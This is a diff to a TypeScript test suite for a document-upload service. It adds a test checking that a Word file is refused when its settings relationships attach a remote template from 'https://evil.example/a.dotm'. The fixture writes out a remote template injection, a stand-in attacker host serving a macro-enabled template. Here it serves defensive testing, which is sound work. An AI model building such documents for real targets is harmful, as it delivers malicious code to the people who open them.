@@ -3,6 +3,7 @@ import { ErrorBody, MB, messages, UploadAnswer } from '@easy-tax/contracts';
 import type { LoggedIn } from '@easy-tax/platform/testing';
 import { aFiling, aFilingsService, fields, type Part } from '../testing/a-filings-service.js';
 import * as files from '../testing/files.js';
+import { aZip } from '../testing/zip.js';
 
 describe('sending a document', () => {
   let service: Awaited<ReturnType<typeof aFilingsService>>;
@@ -72,6 +73,13 @@ describe('sending a document', () => {
       code: 'unsupported_type',
       messages: [messages.fileKind],
     });
+  });
+
+  it('tells whose Word document fetches something when it is opened to save it as PDF', async () => {
+    const template = files.aRelationship('attachedTemplate', 'https://evil.example/a.dotm');
+    const bytes = aZip({ ...files.wordParts(), 'word/_rels/settings.xml.rels': files.relationships(template) });
+    const { status, messages: said } = await refused(aFiling(bytes, 'letter.docx'));
+    expect({ status, said }).toEqual({ status: 415, said: [messages.documentUnsafe] });
   });
 
   it('takes a file of exactly the limit, and not one byte more', async () => {
